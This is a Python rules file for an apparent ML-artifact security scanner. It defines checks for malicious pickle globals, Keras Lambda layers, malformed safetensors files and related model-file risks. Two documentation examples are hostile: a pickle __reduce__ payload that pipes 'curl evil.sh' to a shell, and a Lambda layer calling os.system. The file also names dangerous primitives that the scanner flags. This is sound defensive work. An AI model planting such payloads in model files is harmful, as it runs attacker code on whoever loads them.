"""The rules of the models hook, declared once."""

from __future__ import annotations

from mlwarden.core.findings import Confidence, Severity
from mlwarden.core.rules import Rule, RuleDoc

NAME = "models"
_PICKLE_REFS = (
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    "https://huggingface.co/docs/hub/security-pickle",
    "https://github.com/trailofbits/fickling",
)
_INSTEAD = (
    "# share weights, not code:\n"
    "from safetensors.torch import save_file, load_file\n"
    "save_file(model.state_dict(), 'model.safetensors')\n"
    "model.load_state_dict(load_file('model.safetensors'))"
)

RULES: tuple[Rule, ...] = (
    Rule(
        "MOD001",
        "dangerous-pickle-global",
        NAME,
        Severity.HIGH,
        Confidence.HIGH,
        "A model artifact imports a code-execution, import or I/O primitive",
        RuleDoc(
            what="Reads every pickle stream in the file (raw, torch zip, joblib, .npy, "
            "compressed) without loading it and flags globals such as `os.system`, "
            "`builtins.eval`, `runpy`, `importlib`, `torch.hub` or `numpy.testing`; also "
            "Keras configs that reference them, and names built at load time.",
            why="Unpickling calls whatever the file imports: `torch.load`, `joblib.load` or "
            "`pickle.load` of this file runs the attacker's command with your credentials.",
            example="class Payload:\n    def __reduce__(self):\n"
            "        return (os.system, ('curl evil.sh | sh',))\n"
            "torch.save({'w': Payload()}, 'model.pt')",
            instead=_INSTEAD,
            references=_PICKLE_REFS,
        ),
        cwe=(502, 94),
    ),
    Rule(
        "MOD002",
        "unknown-pickle-global",
        NAME,
        Severity.MEDIUM,
        Confidence.MEDIUM,
        "A model artifact imports a global that is not on the allow-list",
        RuleDoc(
            what="Every global a pickle imports is checked against an exact list of what "
            "torch, numpy, pandas, scikit-learn, xgboost, lightgbm and the standard "
            "containers store. Anything else is reported.",
            why="Deny-lists are bypassed again and again (`timeit`, `code`, "
            "`numpy.testing._private.utils.runstring`...); an unknown callable runs on load.",
            example="pickle imports `mypkg.layers.Custom`",
            instead='[tool.mlwarden.models]\nallow-globals = ["mypkg.layers.Custom", "mypkg.*"]',
            references=_PICKLE_REFS,
        ),
        cwe=(502,),
    ),
    Rule(
        "MOD003",
        "pickle-model-format",
        NAME,
        Severity.INFO,
        Confidence.HIGH,
        "A model is stored in a pickle-based format",
        RuleDoc(
            what="Notes every committed artifact that holds a pickle stream (torch .pt/.bin, "
            "joblib, .pkl, object .npy). Policy: `pickle-format-severity` (info by default).",
            why="Even a clean pickle teaches users to load pickles; the next one may not be.",
            example="torch.save(model.state_dict(), 'model.pt')",
            instead=_INSTEAD,
            references=("https://huggingface.co/docs/safetensors",),
        ),
        cwe=(502,),
    ),
    Rule(
        "MOD004",
        "large-artifact-not-in-lfs",
        NAME,
        Severity.LOW,
        Confidence.HIGH,
        "A large binary artifact is committed to git instead of Git LFS or DVC",
        RuleDoc(
            what="Reports binary files over `max-size-mb` (10 MB by default) that no "
            "`.gitattributes` LFS pattern or `.dvc` pointer covers.",
            why="Big binaries bloat every clone forever and are hard to review or rotate; "
            "LFS/DVC keep them content-addressed and out of history.",
            example="git add checkpoints/model-final.pt  # 1.3 GB",
            instead="git lfs track '*.pt'\n# or\ndvc add checkpoints/model-final.pt",
            references=("https://git-lfs.com/", "https://dvc.org/doc/start"),
        ),
    ),
    Rule(
        "MOD005",
        "keras-lambda-layer",
        NAME,
        Severity.HIGH,
        Confidence.HIGH,
        "A Keras model holds a Lambda layer (marshalled Python bytecode)",
        RuleDoc(
            what="Reads `config.json` inside `.keras` archives and flags Lambda layers.",
            why="A Lambda layer stores Python bytecode that runs when the model is loaded "
            "with safe_mode=False (CVE-2024-3660).",
            example="keras.layers.Lambda(lambda x: __import__('os').system('id') or x)",
            instead="@keras.saving.register_keras_serializable()\n"
            "class Scale(keras.layers.Layer): ...",
            references=("https://nvd.nist.gov/vuln/detail/CVE-2024-3660",),
        ),
        cwe=(502, 94),
    ),
    Rule(
        "MOD006",
        "malformed-safetensors",
        NAME,
        Severity.MEDIUM,
        Confidence.HIGH,
        "A safetensors file has an invalid header",
        RuleDoc(
            what="Checks the header: valid JSON, known dtypes, offsets inside the file, "
            "sizes matching shapes, no overlaps or holes.",
            why="A tampered header makes loaders read out of bounds or silently load "
            "different weights than the ones reviewed.",
            example='{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 4096]}}',
            instead="from safetensors.torch import save_file\n"
            "save_file(tensors, 'model.safetensors')",
            references=("https://github.com/huggingface/safetensors#format",),
        ),
        cwe=(20,),
    ),
    Rule(
        "MOD007",
        "model-analysis-incomplete",
        NAME,
        Severity.MEDIUM,
        Confidence.LOW,
        "A model artifact could not be analysed completely",
        RuleDoc(
            what="Reported when the analyser hits a limit (decompressed size, opcode count, "
            "nesting, zip members) or a layout it cannot follow (lz4, unknown joblib dtype).",
            why="What was not read was not checked: padding a payload past the limits is "
            "an evasion technique, so the file is reported rather than passed.",
            example="a 20 GB zip bomb member named data.pkl",
            instead="[tool.mlwarden.models]\nmax-decompressed-mb = 4096  # if the file is trusted",
        ),
        cwe=(400,),
    ),
)
